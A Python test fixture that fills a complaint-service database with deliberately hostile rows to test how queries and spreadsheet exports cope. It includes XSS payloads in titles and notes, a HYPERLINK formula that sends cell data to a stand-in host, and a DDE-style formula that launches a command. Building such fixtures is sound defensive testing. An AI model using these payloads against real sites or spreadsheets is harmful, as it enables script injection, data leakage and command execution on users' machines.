"""A hostile and odd NTB Care database (issue 6): what a real complaint service writes on a bad day.

Every row goes in through the contract's columns only, as the NTB Care application would write it. The
cases cover: HTML and script in titles and bodies, markdown, a 100 KB body, emoji and non-Latin scripts,
NULL OPD/sector/region/channel, unknown codes, an OPD id that is not in ``opd``, events out of order and
before the receipt, timestamps in the future and outside the working-day calendar, duplicate events,
events of an unknown kind, titles that a spreadsheet would run as a formula (``= + - @``, tab, CR),
control characters, an empty title, a 1,000-character title without spaces, and a ticket with URL
characters in it.

``NOW`` is the same moment as tests/dataset.py (Monday 30 March 2026, 10:00 WITA). The expected answers
of ``queries.quality`` on this data are spelled out, with reasons, in tests/test_hostile.py.

A production database does not necessarily enforce our foreign keys, so on PostgreSQL the hostile
database drops the one on ``complaint.opd_id`` (SQLite does not enforce foreign keys at all): that is
how a complaint can name an OPD id that ``opd`` does not have.
"""

from __future__ import annotations

import datetime as dt

from sqlalchemy import insert, inspect, select, text

from data_seed.load import create_schema, write_calendar
from data_seed.reference import load_reference
from queries import schema
from tests.dataset import NOW, ids_by_code, wita

__all__ = ["BIG_BODY", "CALENDAR_LAST", "CASES", "FORMULA_TICKETS", "MISSING_OPD_ID", "NOW", "build"]

CALENDAR_LAST = dt.date(2027, 12, 31)
MISSING_OPD_ID = 987654  # an OPD id that is not in `opd`

# 100,000 characters (about 110 KB in UTF-8): Latin text, emoji (two UTF-16 units each, which matters for
# Excel's 32,767-character cell limit) and an end marker that shows whether the whole body came through.
_CHUNK = "Banjir 🌊 di Bima, rumah warga terendam. فيضان 洪水 ᬩᬦ᭄ᬚᬶᬃ. "
BIG_BODY = ("AWAL-ISI " + _CHUNK * (100_000 // len(_CHUNK) + 1))[: 100_000 - len(" AKHIR-ISI")] + " AKHIR-ISI"

LONG_TITLE = "Jalan" + "A" * 995  # 1,000 characters, no space to break the line at

# ticket: fields. Codes are looked up in the reference tables; ``opd_id`` gives a raw id instead.
# ``events``: (kind, time, opd code[, note]) in the order they are inserted; absent: derived from the timestamps
# (diterima, didisposisikan, ditanggapi, diselesaikan) in time order; [] for none at all.
CASES: dict[str, dict] = {
    "H00": dict(
        title="Lampu jalan padam di Cakranegara",
        sector="infrastruktur",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diproses",
        received_at=wita(2026, 3, 23, 9),
        dispatched_at=wita(2026, 3, 24, 9),
        first_response_at=wita(2026, 3, 25, 9),
        opd="D03",
    ),
    "H01": dict(
        title="<script>alert('judul')</script>",
        body="<img src=x onerror=alert('isi')><iframe src=\"javascript:alert(1)\"></iframe>"
        '<a href="javascript:alert(2)">klik</a>',
        sector="lingkungan",
        region="5201",
        channel="facebook",
        classification="pengaduan",
        priority="mendesak",
        status="diterima",
        received_at=wita(2026, 3, 26, 8),
    ),
    "H02": dict(
        title="**Tebal** _miring_ [klik](javascript:alert(1)) :red[merah] $x^2$ `kode`",
        body="# Judul besar\n\n- butir satu\n- butir dua\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "<b onmouseover=alert(3)>tebal</b> :material/warning: ![gambar](http://x/y.png)",
        sector="transportasi",
        region="5207",
        channel="website",
        classification="pengaduan",
        priority="penting",
        status="terdisposisi",
        received_at=wita(2026, 3, 25, 10),
        dispatched_at=wita(2026, 3, 26, 7),
        opd="D11",
    ),
    "H03": dict(
        title="Aduan dengan isi 100 KB",
        body=BIG_BODY,
        sector="lingkungan",
        region="5206",
        channel="lapor",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 16, 9),
    ),
    "H04": dict(
        title="Banjir 🌊🏚️ di Bima — 洪水 — فيضان في الشارع — ᬩᬦ᭄ᬚᬶᬃ — ꦧꦚ꧀ꦗꦶꦂ — 👨‍👩‍👧",
        body="Teks kanan-ke-kiri \u202eterbalik\u202c dan lebar-nol\u200b di tengah. Ελληνικά, русский, 日本語.",
        sector="sosial",
        region="5206",
        channel="aplikasi",
        classification="aspirasi",
        priority="biasa",
        status="selesai",
        received_at=wita(2026, 3, 2, 9),
        dispatched_at=wita(2026, 3, 3, 9),
        first_response_at=wita(2026, 3, 4, 9),
        resolved_at=wita(2026, 3, 6, 9),
        opd="D20",
    ),
    "H05": dict(
        title="Diproses tanpa OPD, sektor, wilayah dan kanal",
        sector=None,
        region=None,
        channel=None,
        classification="pengaduan",
        priority="biasa",
        status="diproses",
        received_at=wita(2026, 3, 9, 9),
        dispatched_at=wita(2026, 3, 10, 9),
    ),
    "H06": dict(
        title="Kode tidak dikenal",
        sector="sosial",
        region="5203",
        channel="loket",
        classification="lainnya",
        priority="darurat",
        status="dibatalkan",
        received_at=wita(2026, 3, 11, 9),
    ),
    "H07": dict(
        title="OPD yang tidak ada",
        sector="kesehatan",
        region="5203",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="terdisposisi",
        received_at=wita(2026, 3, 12, 9),
        dispatched_at=wita(2026, 3, 13, 9),
        opd_id=MISSING_OPD_ID,
        events=[("diterima", wita(2026, 3, 12, 9), None), ("didisposisikan", wita(2026, 3, 13, 9), None)],
    ),
    # events inserted out of time order; the response comes before the dispatch; a note before the receipt
    "H08": dict(
        title="Riwayat tidak berurutan",
        sector="pariwisata",
        region="5202",
        channel="website",
        classification="aspirasi",
        priority="biasa",
        status="selesai",
        received_at=wita(2026, 3, 10, 9),
        dispatched_at=wita(2026, 3, 16, 9),
        first_response_at=wita(2026, 3, 13, 9),
        resolved_at=wita(2026, 3, 20, 9),
        opd="D20",
        events=[
            ("diselesaikan", wita(2026, 3, 20, 9), "D20"),
            ("ditanggapi", wita(2026, 3, 13, 9), "D20"),
            ("didisposisikan", wita(2026, 3, 16, 9), "D20"),
            ("diterima", wita(2026, 3, 10, 9), None),
            ("catatan", wita(2026, 3, 9, 8), None, "<script>alert(4)</script> **catatan** =1+1"),
        ],
    ),
    # received in 2030: in the future, and past the end of the working-day calendar
    "H09": dict(
        title="Diterima pada tahun 2030",
        sector="pungli",
        region="5201",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2030, 1, 15, 9),
    ),
    # completed "next year" (inside the calendar), with a future event of an unknown kind too
    "H10": dict(
        title="Selesai di masa depan",
        sector="investasi",
        region="5271",
        channel="website",
        classification="informasi",
        priority="biasa",
        status="selesai",
        received_at=wita(2026, 3, 2, 10),
        dispatched_at=wita(2026, 3, 3, 10),
        first_response_at=wita(2026, 3, 4, 10),
        resolved_at=wita(2027, 6, 1, 10),
        opd="D14",
        events=[
            ("diterima", wita(2026, 3, 2, 10), None),
            ("didisposisikan", wita(2026, 3, 3, 10), "D14"),
            ("ditanggapi", wita(2026, 3, 4, 10), "D14"),
            ("diselesaikan", wita(2027, 6, 1, 10), "D14"),
            ("dihapus", wita(2026, 3, 5, 10), "D14"),
        ],
    ),
    # the same events written twice (a retrying client)
    "H11": dict(
        title="Peristiwa ganda",
        sector="kesehatan",
        region="5204",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="terdisposisi",
        received_at=wita(2026, 3, 17, 9),
        dispatched_at=wita(2026, 3, 26, 9),
        opd="D02",
        events=[
            ("diterima", wita(2026, 3, 17, 9), None),
            ("diterima", wita(2026, 3, 17, 9), None),
            ("didisposisikan", wita(2026, 3, 26, 9), "D02"),
            ("didisposisikan", wita(2026, 3, 26, 9), "D02"),
            ("didisposisikan", wita(2026, 3, 26, 9), "D02"),
        ],
    ),
    # spreadsheet formulas: never dispatched, so all late and all in the compliance page's export
    "H12": dict(
        title='=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 2, 9),
    ),
    "H13": dict(
        title="+62 812 3456 7890 minta dihubungi",
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 2, 9, 5),
    ),
    "H14": dict(
        title="-2+3 jalan berlubang",
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 2, 9, 10),
    ),
    "H15": dict(
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 2, 9, 15),
    ),
    "H16": dict(
        title="\t=1+1 diawali tab",
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 2, 9, 20),
    ),
    "H17": dict(
        title="\r=1+1 diawali CR",
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 2, 9, 25),
    ),
    # timestamps before the receipt; never given any event
    "H18": dict(
        title="Disposisi dan selesai sebelum diterima",
        sector="pertambangan",
        region="5204",
        channel="lapor",
        classification="pengaduan",
        priority="biasa",
        status="selesai",
        received_at=wita(2026, 3, 20, 9),
        dispatched_at=wita(2026, 3, 18, 9),
        first_response_at=wita(2026, 3, 17, 9),
        resolved_at=wita(2026, 3, 16, 9),
        opd="D21",
        events=[],
    ),
    # control characters (Excel's XLSX refuses them), and a title of only spaces with no body
    "H19": dict(
        title="Judul\x07dengan\x1b[31mkarakter\x0bkendali",
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 3, 9),
    ),
    "H20": dict(
        title="   ",
        body=None,
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 3, 10),
    ),
    # received before the working-day calendar begins (2018); completed status without a completion time
    "H21": dict(
        title="Aduan lama dari 2017",
        sector="infrastruktur",
        region="5202",
        channel="loket",
        classification="pengaduan",
        priority="biasa",
        status="selesai",
        received_at=wita(2017, 5, 2, 9),
    ),
    "H22": dict(
        title=LONG_TITLE,
        sector="infrastruktur",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="mendesak",
        status="diterima",
        received_at=wita(2026, 3, 27, 9),
    ),
    "H-23/#&+ <b>?x=1": dict(
        title="Tiket dengan karakter URL",
        sector="sosial",
        region="5271",
        channel="aplikasi",
        classification="pengaduan",
        priority="biasa",
        status="diterima",
        received_at=wita(2026, 3, 4, 9),
    ),
}

FORMULA_TICKETS = ("H12", "H13", "H14", "H15", "H16", "H17")


def build(engine) -> None:
    """Schema, reference rows, the calendar (2018 to 2027) and the hostile cases."""
    ref = load_reference()
    with engine.begin() as conn:
        create_schema(conn)
        if conn.dialect.name == "postgresql":  # production databases need not enforce this foreign key
            for fk in inspect(conn).get_foreign_keys("complaint"):
                if fk["constrained_columns"] == ["opd_id"]:
                    conn.execute(text(f'ALTER TABLE complaint DROP CONSTRAINT "{fk["name"]}"'))
        for table, rows in (("opd", ref.opd), ("region", ref.region), ("sector", ref.sector), ("channel", ref.channel)):
            conn.execute(insert(schema.metadata.tables[table]), rows)
        write_calendar(conn, last=CALENDAR_LAST)
        insert_cases(conn, CASES)


def _events(c: dict) -> list[tuple]:
    if "events" in c:
        return c["events"]
    out = [("diterima", c["received_at"], None)]
    for col, kind in (
        ("dispatched_at", "didisposisikan"),
        ("first_response_at", "ditanggapi"),
        ("resolved_at", "diselesaikan"),
    ):
        if c.get(col):
            out.append((kind, c[col], c.get("opd")))
    return sorted(out, key=lambda e: e[1])


def insert_cases(conn, cases: dict[str, dict]) -> dict[str, int]:
    """Insert complaints and events with the contract's columns only; returns ticket -> complaint id."""
    opd_ids, sec_ids = ids_by_code(conn, schema.opd), ids_by_code(conn, schema.sector)
    reg_ids, ch_ids = ids_by_code(conn, schema.region), ids_by_code(conn, schema.channel)
    out = {}
    for ticket, c in cases.items():
        row = {
            "ticket": ticket,
            "title": c["title"],
            "body": c.get("body", "Isi aduan: " + c["title"]),
            "reporter_name": "Baiq <b>Rahasia</b>",
            "reporter_contact": "=081200000000",
            "channel_id": ch_ids.get(c.get("channel")),
            "sector_id": sec_ids.get(c.get("sector")),
            "region_id": reg_ids.get(c.get("region")),
            "opd_id": c.get("opd_id", opd_ids.get(c.get("opd"))),
            "classification": c["classification"],
            "priority": c["priority"],
            "status": c["status"],
        }
        for col in ("received_at", "dispatched_at", "first_response_at", "resolved_at"):
            v = c.get(col)
            row[col] = v.astimezone(dt.UTC) if v else None
        cid = conn.execute(insert(schema.complaint).values(**row).returning(schema.complaint.c.id)).scalar_one()
        out[ticket] = cid
        events = _events(c)
        if events:
            conn.execute(
                insert(schema.complaint_event),
                [
                    {
                        "complaint_id": cid,
                        "occurred_at": t.astimezone(dt.UTC),
                        "kind": k,
                        "opd_id": opd_ids.get(e[2]),
                        "actor": "uji <i>aktor</i>",
                        "note": e[3] if len(e) > 3 else None,
                    }
                    for e in events
                    for k, t in [e[:2]]
                ],
            )
    return out


def tickets(conn) -> list[str]:
    return [r[0] for r in conn.execute(select(schema.complaint.c.ticket).order_by(schema.complaint.c.id))]
